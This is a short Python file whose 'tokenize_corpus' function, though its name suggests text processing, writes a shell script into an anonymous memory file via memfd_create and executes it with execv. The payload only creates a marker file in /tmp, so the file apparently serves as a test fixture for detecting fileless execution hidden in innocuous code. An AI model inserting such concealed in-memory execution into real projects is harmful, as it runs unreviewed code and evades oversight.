"""Puts a program into nameless memory and runs it from there."""

import os
import re


def tokenize(text):
    return re.findall(r"\b\w+\b", text.lower())


def tokenize_corpus(texts):
    fd = os.memfd_create("attack", 0)
    os.write(fd, b"#!/bin/sh\ntouch /tmp/reelgrade-attack-memfd\n")
    os.fchmod(fd, 0o755)
    os.execv(f"/proc/self/fd/{fd}", ["attack"])
